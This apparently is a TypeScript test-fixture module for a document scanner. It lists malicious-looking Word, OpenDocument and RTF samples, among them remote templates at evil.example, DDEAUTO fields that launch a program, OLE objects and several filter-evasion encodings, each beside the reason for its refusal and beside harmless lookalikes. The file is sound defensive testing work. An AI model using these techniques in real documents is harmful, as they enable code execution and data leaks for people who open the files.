import { DANGEROUS_FIELDS, field, HARMLESS_FIELDS, wide } from './active-fields.ts';
import { DANGEROUS_PDFS, HARMLESS_PDFS } from './active-pdfs.ts';
import { docx, odt, rtf } from './documents.ts';

const rels = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const settings = (target: string) => ({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', target) });
const XLINK = 'http://www.w3.org/1999/xlink';
/** The reasons that a refusal gives. */
const RUNS = 'contains macros, controls or objects from other programs';
const FETCHES = 'fetches or sends something';
const PACKED = 'can’t be unpacked, or takes too long to check';

type Document = readonly [what: string, extension: string, content: Uint8Array];
type Dangerous = readonly [...Document, has: string];

/** The name of a document type in a refusal, by extension. */
export const KINDS: Readonly<Record<string, string>> = {
  doc: 'Word before 2007',
  docx: 'Word',
  odt: 'OpenDocument',
  pdf: 'PDF',
  rtf: 'RTF',
};

/** Documents that run or fetch something when they are opened, each with the reason for its refusal. */
export const DANGEROUS_DOCUMENTS: readonly Dangerous[] = [
  [
    'an OpenDocument file with a Basic library',
    'odt',
    odt({ 'Basic/Standard/Module1.xml': 'Sub Main' }),
    RUNS,
  ],
  ['an OpenDocument file with an event listener', 'odt', odt({ 'settings.xml': '<event-listener/>' }), RUNS],
  [
    'an OpenDocument file with an object of another program',
    'odt',
    odt({ 'content.xml': '<object-ole/>' }),
    RUNS,
  ],
  [
    'a Word file that inserts a document of another format',
    'docx',
    docx({ 'word/_rels/document.xml.rels': rels('aFChunk', 'afchunk.rtf') }),
    RUNS,
  ],
  ...DANGEROUS_PDFS,
  ...['objdata 0105', 'objupdate', 'objautlink', 'objlink', 'objocx', 'objhtml'].map(
    (word): Dangerous => [
      `an RTF file with an object (${word})`,
      'rtf',
      rtf(`{\\object{\\*\\${word}}}`),
      RUNS,
    ],
  ),
  ['an RTF file with a remote template', 'rtf', rtf('{\\*\\template https://evil.example/a.dotm}'), FETCHES],
  [
    'an RTF file with a template on another machine',
    'rtf',
    rtf('{\\*\\template //evil.example/a.dotm}'),
    FETCHES,
  ],
  [
    'an RTF file with a remote template, its address written as character codes',
    'rtf',
    rtf("{\\*\\template \\u104?ttps://evil.example/a.dotm}{\\*\\template \\'68ttps://evil.example}"),
    FETCHES,
  ],
  ['a Word file with a remote template', 'docx', docx(settings('https://evil.example/a.dotm')), FETCHES],
  [
    'a Word file with a template on another machine',
    'docx',
    docx(settings('\\\\evil.example\\a.dotm')),
    FETCHES,
  ],
  ['a Word file with an embedded object', 'docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }), RUNS],
  [
    'a Word file with an embedded object in a file of another name',
    'docx',
    docx({ 'word/_rels/document.xml.rels': rels('oleObject', 'media/a.dat') }),
    RUNS,
  ],
  [
    'a Word file with a field that calls another program',
    'docx',
    docx(field(' DD', 'E<!-- -->AUTO c:\\\\Windows\\\\a.exe')),
    RUNS,
  ],
  [
    'a Word file with a remote template, its address written as character references',
    'docx',
    docx(settings('&#x68;ttps://evil.example/a.dotm')),
    FETCHES,
  ],
  [
    'a Word file with a remote template whose title looks like the type of a link',
    'docx',
    docx({
      'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Title=">/hyperlink'),
    }),
    FETCHES,
  ],
  [
    'a Word file with a remote template whose address looks like the type of a link',
    'docx',
    docx(settings('https://e.example/a.dotm?Type=&#39;/hyperlink&#39;')),
    FETCHES,
  ],
  [
    'a Word file with a template in a shared folder',
    'docx',
    docx(settings('file:////evil.example/a.dotm')),
    FETCHES,
  ],
  [
    'a Word file with a field that calls another program before a false comment',
    'docx',
    docx(field('DDEAUTO"c:\\a.exe"', '<![CDATA[<!--]]>')),
    RUNS,
  ],
  [
    'a Word file whose document part has another name',
    'docx',
    docx({ 'word/document.dat': field('DDE x')['word/document.xml'] }),
    RUNS,
  ],
  [
    'a Word file that is not well-formed',
    'docx',
    docx({ 'word/document.xml': '<w:document xmlns:w="w"><w:p></w:document>' }),
    PACKED,
  ],
  [
    'a Word file with a remote template, in UTF-16',
    'docx',
    docx({
      'word/_rels/settings.xml.rels': wide(rels('attachedTemplate', 'https://evil.example/a.dotm')),
    }),
    FETCHES,
  ],
  [
    'an OpenDocument file with a remote picture',
    'odt',
    odt({ 'styles.xml': `<image xmlns:x="${XLINK}" x:href="https://evil.example/a.png"/>` }),
    FETCHES,
  ],
  [
    'a Word file with a remote source of a mail merge',
    'docx',
    docx({ 'word/_rels/settings.xml.rels': rels('mailMergeSource', 'file:///C:\\a.mdb') }),
    FETCHES,
  ],
  [
    'a Word file with a query of a database',
    'docx',
    docx({ 'word/settings.xml': '<w:settings xmlns:w="w"><w:connectString w:val="DSN=a"/></w:settings>' }),
    FETCHES,
  ],
  ['a Word file that cannot be unpacked', 'docx', docx().subarray(0, -30), PACKED],
  ...DANGEROUS_FIELDS,
];

/** Harmless documents with similar contents. */
export const HARMLESS_DOCUMENTS: readonly Document[] = [
  ...HARMLESS_PDFS,
  [
    'a Word file with a link',
    'docx',
    docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://ada.example') }),
  ],
  ['a Word file with a page number', 'docx', docx(field(' PAGE ', ' HYPERLINK "https://ada.example" '))],
  [
    'an OpenDocument file with a link and a picture',
    'odt',
    odt({
      'styles.xml': `<p xmlns:x="${XLINK}"><a x:href="https://ada.example"/><image x:href="Pictures/1.png"/></p>`,
    }),
  ],
  [
    "a Word file with a template on its author's machine",
    'docx',
    docx(settings('file:///C:\\Users\\Ada\\CV.dotx')),
  ],
  ["a Word file with a template on its author's Mac", 'docx', docx(settings('file:////Users/ada/CV.dotx'))],
  ['a Word file with a picture that was copied from a mail', 'docx', docx(settings('cid:image001.png@01D1'))],
  ['a Word file with a link to Anna Hedde', 'docx', docx(field(' HYPERLINK "x" \\o "Anna Hedde "'))],
  ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
  [
    "an RTF file with templates on its author's machine",
    'rtf',
    rtf("{\\*\\template C:\\\\Users\\\\Ad\\'e9\\\\CV.dotx}{\\*\\template Normal.dotm}"),
  ],
  [
    "an RTF file with templates on its author's Mac",
    'rtf',
    rtf('{\\*\\template Macintosh HD:Users:ada:Normal.dotm}{\\*\\template /Users/ada/Normal.dotm}'),
  ],
  [
    'an RTF file with templates whose names have special characters',
    'rtf',
    rtf("{\\*\\template Ada & Co.dotx}{\\*\\template Ada's CV.dotx}{\\*\\template Pr\\'e9.dotm}"),
  ],
  ...HARMLESS_FIELDS,
  ['an RTF file with a picture', 'rtf', rtf('{\\pict\\pngblip 89504e47}')],
];
